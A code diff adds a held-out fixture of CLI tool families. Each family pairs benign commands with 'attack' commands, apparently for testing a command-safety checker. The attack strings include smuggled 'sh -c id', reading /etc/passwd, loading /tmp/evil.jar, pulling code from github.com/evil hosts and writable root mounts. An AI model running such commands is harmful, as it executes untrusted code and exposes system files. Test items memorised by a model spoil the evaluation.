@@ -1107,3 +1107,92 @@ export const HELD_OUT_AFTER: Readonly<Record<string, HeldOutFamily>> = {
   changeset: { docs: 'https://github.com/changesets/changesets/blob/main/docs/command-line-options.md', attacks: [], benign: ['changeset version', 'changeset publish'] },
   knip: { docs: 'https://knip.dev/reference/cli', attacks: ['knip --directory ../other'], benign: ['knip', 'knip --production'] },
 };
+
+/**
+ * A third set, written after both sets' fixes and left unfixed: the measure of how the defaults
+ * generalise to families nobody tuned for.
+ */
+export const HELD_OUT_THIRD: Readonly<Record<string, HeldOutFamily>> = {
+  gatsby: {
+    docs: 'https://www.gatsbyjs.com/docs/reference/gatsby-cli/ (new SITE STARTER-URL, --open-tracing-config-file)',
+    attacks: ['gatsby new site https://github.com/evil/starter', 'gatsby build --open-tracing-config-file ../t.js'],
+    benign: ['gatsby develop', 'gatsby build', 'gatsby serve'],
+  },
+  nuxi: { docs: 'https://nuxt.com/docs/api/commands/build (ROOTDIR operand, --dotenv)', attacks: ['nuxi build ../other', 'nuxi dev --dotenv /tmp/.env'], benign: ['nuxi dev', 'nuxi build', 'nuxi generate'] },
+  remix: { docs: 'https://remix.run/docs/en/main/other-api/dev (-c/--command runs the app server)', attacks: ["remix dev --command 'sh -c id'"], benign: ['remix dev', 'remix build'] },
+  expo: { docs: 'https://docs.expo.dev/more/expo-cli/ (export --output-dir)', attacks: ['expo export --output-dir /tmp/dist'], benign: ['expo start', 'expo export'] },
+  flutter: { docs: 'https://docs.flutter.dev/reference/flutter-cli (-t target file)', attacks: ['flutter run -t /tmp/main.dart'], benign: ['flutter run', 'flutter build apk --release', 'flutter test', 'flutter pub get'] },
+  forge: {
+    docs: 'https://book.getfoundry.sh/reference/forge/ (script FILE, --ffi lets tests run commands, --out)',
+    attacks: ['forge script /tmp/Deploy.s.sol --broadcast', 'forge test --ffi', 'forge build --out /tmp/out'],
+    benign: ['forge build', 'forge test -vvv', 'forge fmt'],
+  },
+  hardhat: {
+    docs: 'https://hardhat.org/hardhat-runner/docs/reference/cli (run SCRIPT, --config)',
+    attacks: ['hardhat run /tmp/deploy.js', 'hardhat --config ../hardhat.config.js test'],
+    benign: ['hardhat compile', 'hardhat test', 'hardhat node', 'hardhat run scripts/deploy.js --network sepolia'],
+  },
+  solc: {
+    docs: 'https://docs.soliditylang.org/en/latest/using-the-compiler.html (--allow-paths, --base-path, -o)',
+    attacks: ['solc --allow-paths / contract.sol', 'solc -o /tmp/out c.sol', 'solc --base-path / c.sol'],
+    benign: ['solc --bin --abi -o build contracts/Token.sol', 'solc --optimize contracts/A.sol'],
+  },
+  slither: { docs: 'https://github.com/crytic/slither/wiki/Usage (--solc names the compiler, --json)', attacks: ['slither . --solc /tmp/solc', 'slither . --json /tmp/r.json'], benign: ['slither .', 'slither contracts/Token.sol --print human-summary'] },
+  artillery: { docs: 'https://www.artillery.io/docs/reference/cli/run (script, --output)', attacks: ['artillery run /tmp/t.yml', 'artillery run test.yml --output /tmp/r.json'], benign: ['artillery run load.yml', 'artillery quick --count 10 -n 20 http://localhost:3000/'] },
+  vegeta: { docs: 'https://github.com/tsenart/vegeta#usage (-targets, -output)', attacks: ['vegeta attack -targets=/tmp/t.txt -duration=5s', 'vegeta report -output=/tmp/r.txt'], benign: ['vegeta attack -duration=5s -rate=50 -targets=targets.txt'] },
+  xh: { docs: 'https://github.com/ducaale/xh (-o output, FIELD=@file)', attacks: ['xh --download -o /tmp/x https://example.com/f', 'xh post localhost:3000/api key=@/etc/hostname'], benign: ['xh localhost:3000/health', 'xh post localhost:3000/api name=x'] },
+  jq: {
+    docs: 'https://jqlang.github.io/jq/manual/ (-f program file, --rawfile, -L library path)',
+    attacks: ['jq -f /tmp/prog.jq data.json', "jq --rawfile x /etc/passwd -n '$x'", `jq -L /tmp/lib 'import "x" as x; .' d.json`],
+    benign: ["jq '.name' package.json", "jq -r '.items[].id' data.json", 'jq -s add a.json b.json'],
+  },
+  dasel: { docs: 'https://daseldocs.tomwright.me/ (-f file)', attacks: ['dasel -f /etc/x.yaml', 'dasel put -f ../c.yaml -v 1 x'], benign: ["dasel -f config.yaml '.version'"] },
+  xsv: { docs: 'https://github.com/BurntSushi/xsv (split OUTDIR)', attacks: ['xsv select a /tmp/x.csv', 'xsv split /tmp/out data.csv'], benign: ['xsv headers data.csv', 'xsv stats data.csv'] },
+  'clickhouse-client': {
+    docs: 'https://clickhouse.com/docs/en/interfaces/cli (--queries-file, --config-file)',
+    attacks: ['clickhouse-client --queries-file /tmp/q.sql', 'clickhouse-client --config-file ../c.xml'],
+    benign: ['clickhouse-client --query "SELECT 1"', 'clickhouse-client --host localhost'],
+  },
+  cqlsh: { docs: 'https://cassandra.apache.org/doc/latest/cassandra/managing/tools/cqlsh.html (-f, --cqlshrc)', attacks: ['cqlsh -f /tmp/s.cql', 'cqlsh --cqlshrc ../rc'], benign: ['cqlsh localhost 9042', 'cqlsh -e "DESCRIBE KEYSPACES"'] },
+  mongodump: { docs: 'https://www.mongodb.com/docs/database-tools/mongodump/ (--out, --archive)', attacks: ['mongodump --out /tmp/dump', 'mongodump --archive=/tmp/a.gz'], benign: ['mongodump --db app --out backup'] },
+  mongoimport: { docs: 'https://www.mongodb.com/docs/database-tools/mongoimport/ (--file)', attacks: ['mongoimport --file /etc/x.json -c x'], benign: ['mongoimport --db app --collection users --file users.json'] },
+  pgbench: { docs: 'https://www.postgresql.org/docs/current/pgbench.html (-f script)', attacks: ['pgbench -f /tmp/s.sql db'], benign: ['pgbench -i -s 10 bench', 'pgbench -c 10 -T 60 bench'] },
+  liquibase: {
+    docs: 'https://docs.liquibase.com/parameters/home.html (--changelog-file, --defaults-file, --classpath loads Java)',
+    attacks: ['liquibase --changelog-file=/tmp/c.xml update', 'liquibase --defaults-file=../lb.properties update', 'liquibase --classpath=/tmp/evil.jar update'],
+    benign: ['liquibase update', 'liquibase status'],
+  },
+  goose: { docs: 'https://github.com/pressly/goose#usage (-dir)', attacks: ['goose -dir /tmp/m postgres "user=x" up'], benign: ['goose -dir migrations postgres "user=app dbname=app sslmode=disable" up', 'goose create add_users sql'] },
+  migrate: {
+    docs: 'https://github.com/golang-migrate/migrate/tree/master/cmd/migrate (-path, -source URL)',
+    attacks: ['migrate -path /tmp/m -database postgres://localhost/app up', 'migrate -source github://evil/repo/m -database postgres://localhost/app up'],
+    benign: ['migrate -path db/migrations -database "postgres://localhost:5432/app?sslmode=disable" up'],
+  },
+  dolt: { docs: 'https://docs.dolthub.com/cli-reference/cli (--data-dir)', attacks: ['dolt --data-dir /tmp/d sql'], benign: ['dolt sql -q "select 1"', 'dolt status', 'dolt commit -m "add users"'] },
+  caddy: {
+    docs: 'https://caddyserver.com/docs/command-line (run --config, file-server --root)',
+    attacks: ['caddy run --config /tmp/Caddyfile', 'caddy file-server --root /', 'caddy run --config ../Caddyfile --adapter caddyfile'],
+    benign: ['caddy run', 'caddy fmt --overwrite Caddyfile', 'caddy file-server --listen :8080'],
+  },
+  nginx: { docs: 'https://nginx.org/en/docs/switches.html (-c config, -p prefix)', attacks: ['nginx -c /tmp/nginx.conf', 'nginx -p /tmp/prefix'], benign: ['nginx -t', 'nginx -s reload'] },
+  traefik: { docs: 'https://doc.traefik.io/traefik/reference/static-configuration/cli/ (--configFile, --api.insecure)', attacks: ['traefik --configFile=/tmp/t.yml', 'traefik --api.insecure=true'], benign: ['traefik --providers.docker=true'] },
+  nomad: { docs: 'https://developer.hashicorp.com/nomad/docs/commands/job/run', attacks: ['nomad job run /tmp/job.hcl', 'nomad agent -dev -config=/tmp/c.hcl'], benign: ['nomad job status', 'nomad job run jobs/web.nomad.hcl'] },
+  'terraform-docs': { docs: 'https://terraform-docs.io/reference/terraform-docs/ (-c config, PATH)', attacks: ['terraform-docs markdown ../other', 'terraform-docs -c /tmp/.tfdocs.yml .'], benign: ['terraform-docs markdown table --output-file README.md .'] },
+  tfsec: { docs: 'https://aquasecurity.github.io/tfsec/latest/guides/usage/ (--custom-check-dir)', attacks: ['tfsec --custom-check-dir /tmp/checks .'], benign: ['tfsec .', 'tfsec --minimum-severity HIGH .'] },
+  infracost: { docs: 'https://www.infracost.io/docs/features/cli_commands/ (--path, --config-file)', attacks: ['infracost breakdown --path ../other', 'infracost breakdown --config-file /tmp/c.yml'], benign: ['infracost breakdown --path .', 'infracost diff --path . --compare-to baseline.json'] },
+  cdktf: { docs: 'https://developer.hashicorp.com/terraform/cdktf/cli-reference/commands (--app command, --output)', attacks: ['cdktf synth --app "sh -c id"', 'cdktf deploy --output /tmp/out'], benign: ['cdktf synth', 'cdktf deploy --auto-approve'] },
+  devspace: { docs: 'https://www.devspace.sh/docs/cli (--config)', attacks: ['devspace dev --config ../devspace.yaml', 'devspace run-pipeline dev --config=/tmp/d.yaml'], benign: ['devspace dev', 'devspace deploy'] },
+  kubeseal: { docs: 'https://github.com/bitnami-labs/sealed-secrets#usage (--kubeconfig, --cert)', attacks: ['kubeseal --kubeconfig /tmp/kc -o yaml'], benign: ['kubeseal --format yaml --cert pub-cert.pem'] },
+  velero: { docs: 'https://velero.io/docs/main/ (--kubeconfig)', attacks: ['velero backup create b --kubeconfig /tmp/kc'], benign: ['velero backup get', 'velero restore create --from-backup b1'] },
+  colima: { docs: 'https://github.com/abiosoft/colima#customizing-the-vm (--mount PATH:w)', attacks: ['colima start --mount /:w', 'colima start --mount ~:w'], benign: ['colima start', 'colima status', 'colima start --cpu 4 --memory 8'] },
+  minikube: { docs: 'https://minikube.sigs.k8s.io/docs/handbook/mount/ (mount HOST:GUEST)', attacks: ['minikube mount /:/host', 'minikube start --mount --mount-string /etc:/x'], benign: ['minikube start', 'minikube status', 'minikube dashboard'] },
+  dagger: { docs: 'https://docs.dagger.io/reference/cli/ (call -m module address, run CMD)', attacks: ['dagger call -m github.com/evil/mod run', 'dagger run sh -c id'], benign: ['dagger call build', 'dagger functions'] },
+  pack: { docs: 'https://buildpacks.io/docs/for-platform-operators/how-to/integrate-ci/pack/cli/pack_build/ (--path, --buildpack)', attacks: ['pack build app --path ../other', 'pack build app --buildpack /tmp/bp'], benign: ['pack build app --builder paketobuildpacks/builder-jammy-base'] },
+  ko: { docs: 'https://ko.build/reference/ko_resolve/ (-f files)', attacks: ['ko resolve -f /tmp/k.yaml'], benign: ['ko build ./cmd/app', 'ko resolve -f config/'] },
+  bazelisk: { docs: 'https://github.com/bazelbuild/bazelisk (bazel\'s options)', attacks: ['bazelisk --bazelrc=/tmp/rc build //...', 'bazelisk run --run_under=/tmp/x //:a'], benign: ['bazelisk build //...', 'bazelisk test //...'] },
+  buck2: { docs: 'https://buck2.build/docs/users/commands/build/', attacks: ['buck2 build --config-file /tmp/c //:x'], benign: ['buck2 build //app:main', 'buck2 test //...'] },
+  xmake: { docs: 'https://xmake.io/#/manual/cli (-P project dir, lua SCRIPT)', attacks: ['xmake -P ../other', 'xmake lua /tmp/x.lua'], benign: ['xmake', 'xmake build', 'xmake run app'] },
+  vault: { docs: 'https://developer.hashicorp.com/vault/docs/commands/agent (-config)', attacks: ['vault agent -config=/tmp/a.hcl'], benign: ['vault status', 'vault kv get secret/app'] },
+  hexo: { docs: 'https://hexo.io/docs/commands (--config, --cwd)', attacks: ['hexo generate --config ../_config.yml', 'hexo --cwd ../other g'], benign: ['hexo server', 'hexo generate', 'hexo new post "Hello"'] },
+  cordova: { docs: 'https://cordova.apache.org/docs/en/latest/reference/cordova-cli/ (plugin add URL or path)', attacks: ['cordova plugin add https://github.com/evil/plugin.git', 'cordova plugin add /tmp/plugin'], benign: ['cordova build android', 'cordova run ios'] },
+};
